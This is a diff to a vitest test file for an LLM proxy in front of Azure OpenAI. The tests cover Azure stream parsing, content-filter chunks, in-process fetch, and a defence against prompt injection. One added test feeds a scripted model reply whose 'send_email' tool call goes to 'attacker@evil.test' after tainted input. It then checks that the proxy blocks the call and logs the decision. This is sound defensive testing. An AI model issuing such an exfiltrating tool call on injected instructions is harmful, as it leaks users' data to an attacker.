@@ -9,7 +9,7 @@ import { randomBytes } from 'node:crypto';
 import { createServer } from 'node:http';
 import OpenAI, { AzureOpenAI } from 'openai';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { type Proxy, createProxy } from '../../src/index.js';
+import { type Proxy, createProxy, createProxyFetch } from '../../src/index.js';
 import { nodeProxy } from '../../src/ways-in/node.js';
 import { tableRates, usd } from '../helpers/prices.js';
 import { auditRows } from '../helpers/proxy.js';
@@ -113,6 +113,32 @@ describe.each([{ stream: false }, { stream: true }])('stream: $stream', ({ strea
   });
 });
 
+describe("Azure's own stream: the content-filter chunk first, filter results on every choice", () => {
+  const filters = { hate: { filtered: false, severity: 'safe' }, self_harm: { filtered: false, severity: 'safe' }, sexual: { filtered: false, severity: 'safe' }, violence: { filtered: false, severity: 'safe' } };
+  const chunk = (delta: object, finish: string | null = null) => ({ id: 'chatcmpl-az', object: 'chat.completion.chunk', created: 1, model: SERVED_MODEL, system_fingerprint: 'fp_az', choices: [{ index: 0, delta, finish_reason: finish, logprobs: null, content_filter_results: finish ? {} : filters }] });
+  const azureSse = (chunks: object[]) =>
+    [{ choices: [], created: 0, id: '', model: '', object: '', prompt_filter_results: [{ prompt_index: 0, content_filter_results: filters }] }, ...chunks, { ...chunk({}), choices: [], usage: { prompt_tokens: 20, completion_tokens: 9, total_tokens: 29 } }]
+      .map((event) => `data: ${JSON.stringify(event)}\n\n`)
+      .join('') + 'data: [DONE]\n\n';
+
+  it('text passes, usage is read; a refused call is removed from the stream', async () => {
+    up.replyOnce({ kind: 'raw', status: 200, headers: { 'content-type': 'text/event-stream' }, body: azureSse([chunk({ role: 'assistant', content: '' }), chunk({ content: 'filtered ' }), chunk({ content: 'hello' }), chunk({}, 'stop')]) });
+    const client = azure({ deployment: DEPLOYMENT });
+    const text = await client.chat.completions.stream({ model: DEPLOYMENT, messages: [{ role: 'user', content: 'hi' }] }).finalChatCompletion();
+    expect(text.choices[0]?.message.content).toBe('filtered hello');
+    expect(await lastRow()).toMatchObject({ provider: 'azure', outcome: 'ok', inputTokens: 20, outputTokens: 9, responseModel: SERVED_MODEL });
+
+    const call = { index: 0, id: 'call_send', type: 'function', function: { name: 'send_email', arguments: '{"to":"attacker@evil.test"}' } };
+    up.replyOnce({ kind: 'raw', status: 200, headers: { 'content-type': 'text/event-stream' }, body: azureSse([chunk({ role: 'assistant', content: null, tool_calls: [call] }), chunk({}, 'tool_calls')]) });
+    const refused = await client.chat.completions.stream({ model: DEPLOYMENT, messages: tainted, tools }).finalChatCompletion();
+    expect(refused.choices[0]?.message.tool_calls ?? []).toEqual([]);
+    expect(refused.choices[0]?.message.content).toMatch(/^\[Archestra\] A tool call was blocked/);
+    const row = await lastRow();
+    expect(row.decisions).toEqual(expect.arrayContaining([expect.objectContaining({ toolCallId: 'call_send', tool: 'send_email', action: 'block' })]));
+    expect(row.responseBody).not.toContain('attacker@evil.test');
+  });
+});
+
 describe('credentials', () => {
   it('an Entra ID token is passed through as a bearer token, never in api-key', async () => {
     const client = azure({ azureADTokenProvider: async () => ENTRA_TOKEN, deployment: DEPLOYMENT });
@@ -178,6 +204,15 @@ describe('paths and errors', () => {
     const noKey = await fetch(`${server.origin}/v1/azure/openai/deployments/${DEPLOYMENT}/chat/completions?api-version=${API_VERSION}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"messages":[]}' });
     expect(noKey.status).toBe(401);
     expect(((await noKey.json()) as { error: { type: string } }).error.type).toBe('authentication_error');
+  });
+
+  it('in process (createProxyFetch): the resource endpoint identifies Azure', async () => {
+    up.reply({ kind: 'chat', content: 'in process', model: SERVED_MODEL });
+    const client = new AzureOpenAI({ endpoint: up.url, apiKey: API_KEY, apiVersion: API_VERSION, deployment: DEPLOYMENT, fetch: createProxyFetch(proxy), maxRetries: 0 });
+    const answer = await client.chat.completions.create({ model: DEPLOYMENT, messages: [{ role: 'user', content: 'hi' }] });
+    expect(answer.choices[0]?.message.content).toBe('in process');
+    expect(lastUpstream().path).toBe(`/openai/deployments/${DEPLOYMENT}/chat/completions?api-version=${API_VERSION}`);
+    expect(await lastRow()).toMatchObject({ provider: 'azure', model: DEPLOYMENT, outcome: 'ok' });
   });
 
   it('Azure is served only once its resource is configured', async () => {
